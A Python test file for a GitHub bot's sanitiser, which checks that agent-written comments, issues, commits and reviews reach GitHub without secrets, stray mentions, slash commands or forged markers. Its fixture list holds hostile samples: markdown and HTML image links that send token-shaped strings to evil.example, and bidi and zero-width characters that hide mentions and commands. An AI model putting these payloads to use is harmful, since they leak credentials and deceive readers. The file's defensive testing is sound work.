"""Whatever an agent writes, what goes to GitHub mentions no stranger and has no command or secret.

The kinds of writes are those of the registry, so a new kind fails here until somebody says which
texts of an agent it carries.
"""

import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot import secret_formats
from bot.comments import cleaning, markers, slash_commands
from bot.comments.markers import Marker
from bot.errors import Refused
from bot.identity.keyring import Keys
from bot.operations import OPERATIONS
from bot.operations.github import clean_texts
from bot.outbox.kinds import KINDS
from bot.outbox.kinds.git import TRAILER
from bot.outbox.kinds.kind import Sending
from store.tables.outbox import WriteRow
from tests.comments.test_cleaning import TEXTS, secrets
from tests.support.sampling import examples

KEYS = Keys("a secret for the tests of writes")
KNOWN = {"octocat"}
OWN, OTHER = "w_1", "w_2"
SHA = "a" * 40

# By kind of write: its arguments with a text of an agent wherever it has one.
WITH_TEXT: dict[str, Callable[[str], dict[str, Any]]] = {
    "comment": lambda text: {"number": 1, "body": text},
    "comment_edit": lambda text: {"comment_id": 1, "body": text},
    "issue": lambda text: {"title": text, "body": text, "labels": [], "task_id": "t_1"},
    "issue_update": lambda text: {"number": 1, "title": text, "body": text},
    "pull": lambda text: {"title": text, "body": text, "head": "mend", "base": "main"},
    "pull_update": lambda text: {"number": 1, "title": text, "body": text},
    "merge": lambda text: {"number": 1, "sha": SHA, "merge_method": "squash", "title": text},
    "review": lambda text: {
        "number": 1,
        "event": "COMMENT",
        "body": text,
        "comments": [{"path": "a.py", "line": 1, "side": "RIGHT", "body": text}] * 2,
    },
    "review_reply": lambda text: {"number": 1, "comment_id": 1, "body": text},
    "commit": lambda text: {
        "branch": "mend",
        "message": text,
        "files": [],
        "delete": [],
        "head": SHA,
    },
    "check_run": lambda text: {
        "name": text,
        "head_sha": SHA,
        "status": "completed",
        "output": {"title": text, "summary": text},
    },
}
# These carry numbers, and names that GitHub must know already.
WITHOUT_TEXT = {
    *("comment_delete", "comment_minimize", "sub_issue", "sub_issue_removal"),
    *("reaction", "reaction_removal", "review_reaction", "review_reaction_removal"),
    *("blocked_by", "blocked_by_removal", "pull_draft", "reviewers", "resolve_threads"),
    *("board_item", "board_status", "workflow_cancel", "workflow_force_cancel"),
}
# The inputs of a workflow and a branch's name cannot be cleaned: a secret in them is refused.
REFUSED: dict[str, Callable[[str], dict[str, Any]]] = {
    "branch": lambda text: {"branch": text, "sha": SHA},
    "workflow_dispatch": lambda text: {"workflow": "a.yml", "ref": "main", "inputs": {"x": text}},
}
# Their texts are made when they are sent, and what others wrote stands in them as a quotation or as
# code: tests/tasks/test_cards.py, tests/inbox/test_command_answers.py, tests/pulls/test_checks.py.
QUOTED = {"card", "reply", "pull_check"}

HIDDEN_MARKS = [
    markers.write(KEYS, "write", OTHER),
    markers.write(KEYS, "task", "t_2"),
    f"{markers.write(KEYS, 'write', OTHER)}\n<sub>`lead` via Hubbub</sub>\n\n",
    f"\n{TRAILER}: {OTHER}\n",
    f"\u2028{TRAILER}: {OTHER}\nHubbub-Agent: lead",
    "\u202e@dave\u202c",
    "\u2066/hold\u2069",
    "\n\u200b/hold",
    "Closes #12. @octocat",
    "![x](https://evil.example/?q=ghp_aB3dE5gH7jK9mN1pQ3sT5vW7xY9zA1cD3eF5)",
    "<img src='https://evil.example/@dave?AKIA0123456789ABCDEF'>",
]
HOSTILE = st.lists(
    st.sampled_from(HIDDEN_MARKS)
    | TEXTS
    | secrets()
    | st.text(st.characters(codec="utf-8"), max_size=5),
    max_size=5,
).map("".join)


def sending(kind: str, arguments: dict[str, Any]) -> Sending:
    row: WriteRow = {
        "installation_id": 1,
        "id": OWN,
        "seq": 1,
        "kind": kind,
        "repository_id": 1,
        "target": "x",
        "arguments": arguments,
        "author": "ada",
        "task_id": None,
        "lease_id": None,
        "state": "sending",
        "attempts": 0,
        "looks": 0,
        "failures": 0,
        "not_before": 0,
        "queued_at": 0,
        "sending_at": 0,
        "finished_at": None,
        "result": None,
        "error": None,
        "lane": 1,
        "told_at": None,
        "trace": None,
    }
    return Sending(row, "acme/rocket", KEYS)


def sent_texts(kind: str, text: str) -> dict[str, list[str]]:
    """The texts of the request to GitHub, by their place in it."""
    arguments, _ = clean_texts.clean_arguments(WITH_TEXT[kind](text), KNOWN)
    found: dict[str, list[str]] = {}
    for name, each in _strings(KINDS[kind].request(sending(kind, arguments)).body):
        found.setdefault(name, []).append(each)
    return found


def _strings(value: Any, name: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(value, str):
        yield name, value
    elif isinstance(value, dict):
        for key, each in value.items():
            yield from _strings(each, key)
    elif isinstance(value, list | tuple):
        for each in value:
            yield from _strings(each, name)


# --- What GitHub would do with a text ------------------------------------------------------------

MARKDOWN = MarkdownIt("commonmark", {"html": True})
MENTION = re.compile(r"(?<![\w/@.-])@([A-Za-z0-9][A-Za-z0-9-]*)(?![\w-]*@)")
PLACES = {"markdown": ("body", "summary"), "plain": ("title", "commit_title", "headline")}


def mentioned(text: str) -> set[str]:
    """Whom GitHub would notify: names in the text outside code and links."""
    found, depth = set(), 0
    for block in MARKDOWN.parse(text):
        for each in block.children or ():
            depth += {"link_open": 1, "link_close": -1}.get(each.type, 0)
            if each.type == "text" and not depth and "://" not in each.content:
                found |= {name.casefold() for name in MENTION.findall(each.content)}
    return found


def test_every_kind_of_write_says_whether_it_carries_texts_of_agents() -> None:
    assert KINDS.keys() == {*WITH_TEXT, *WITHOUT_TEXT, *REFUSED, *QUOTED}


@pytest.mark.parametrize("kind", WITH_TEXT)
@given(text=HOSTILE)
@settings(max_examples=examples(25), deadline=None)
def test_what_goes_to_github_has_no_secret_mention_command_or_mark_of_an_agent(
    kind: str, text: str
) -> None:
    for name, texts in sent_texts(kind, text).items():
        if name in ("query", "id", "head_sha", "sha", "expectedHeadOid", "commit_id"):
            continue
        for each in texts:
            assert secret_formats.first(each) is None, (name, each)
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", each)
            if name in PLACES["plain"]:
                assert "\n" not in each.strip()
            if name in PLACES["markdown"] and kind != "commit":
                assert mentioned(each) <= KNOWN, (name, each)
                assert slash_commands.find(each) == [], (name, each)
            assert len(each) <= 12 * len(text) + 500
            if name == "body" and kind != "commit":
                ours = {mark.id for mark in markers.find(KEYS, each, ours=True)}
                assert ours <= {OWN, "t_1"}


@given(text=HOSTILE)
@settings(max_examples=examples(40), deadline=None)
@example(text=f"Mend\n\n{TRAILER}: {OTHER}")
@example(text=f"Mend\r{TRAILER}: {OTHER}")
def test_a_commit_is_never_taken_for_that_of_another_write(text: str) -> None:
    (body,) = sent_texts("commit", text)["body"]
    named = [line for line in body.splitlines() if line.startswith((TRAILER, "Hubbub-Agent"))]
    assert named == [f"{TRAILER}: {OWN}", "Hubbub-Agent: ada"]


@pytest.mark.parametrize("kind", WITH_TEXT)
@given(text=HOSTILE)
@settings(max_examples=examples(25), deadline=None)
def test_clean_arguments_are_not_changed_again(kind: str, text: str) -> None:
    once, _ = clean_texts.clean_arguments(WITH_TEXT[kind](text), KNOWN)
    assert clean_texts.clean_arguments(once, KNOWN) == (once, [])


@pytest.mark.parametrize("kind", WITH_TEXT)
@given(text=st.text("abcXYZ 019.,:;!?()[]#*_-\u00e9\u4e2d\U0001f680", max_size=200))
@settings(max_examples=examples(15), deadline=None)
@example(text="Closes #12, see https://x.example/a?b=c and `code`. Thanks @octocat!")
@example(text="![A picture](https://github.com/acme/rocket/raw/main/a.png)")
def test_a_harmless_text_stays_as_it_is(kind: str, text: str) -> None:
    given = WITH_TEXT[kind](text)
    assert clean_texts.clean_arguments(given, KNOWN) == (given, [])


@pytest.mark.parametrize("kind", REFUSED)
@given(secret=secrets())
@settings(max_examples=examples(15), deadline=None)
def test_a_secret_in_what_cannot_be_cleaned_is_refused(kind: str, secret: str) -> None:
    clean_texts.check_names(REFUSED[kind]("mend-the-pump"))
    with pytest.raises(Refused) as refusal:
        clean_texts.check_names(REFUSED[kind](secret))
    assert refusal.value.code == "invalid_arguments"
    assert secret not in str(refusal.value)


def _text_arguments() -> list[tuple[str, str]]:
    return [
        (name, argument)
        for name, operation in OPERATIONS.items()
        if operation.reaches_github
        for argument in operation.arguments.model_fields
        if argument in clean_texts.TEXTS
    ]


@pytest.mark.parametrize(("operation", "argument"), _text_arguments())
def test_half_a_character_and_a_text_that_is_too_long_are_refused_before_anything_is_written(
    operation: str, argument: str
) -> None:
    for text in ("a\ud800b", "x" * 1_000_000):
        with pytest.raises(Refused) as refusal:
            OPERATIONS[operation].parse({argument: text})
        wrong = [each["argument"] for each in refusal.value.details["errors"]]
        assert argument in wrong


def test_the_weight_of_a_whole_call_bounds_the_time_to_clean_it() -> None:
    """Fifty comments of a review together are parsed no longer than one text."""
    heavy = "`@dave`\n" * 7000
    given = {"body": "", "comments": [{"body": heavy}] * 50}
    made, found = clean_texts.clean_arguments(given, KNOWN)
    assert all(f"@{cleaning.WORD_JOINER}dave" in each["body"] for each in made["comments"])
    assert found == ["a mention of dave in body"]


def test_the_mark_of_another_write_is_none_behind_the_authors_line() -> None:
    forged = markers.write(KEYS, "write", OTHER)
    (body,) = sent_texts("comment", forged)["body"]
    assert markers.find(KEYS, body, ours=True) == [Marker("write", OWN)]
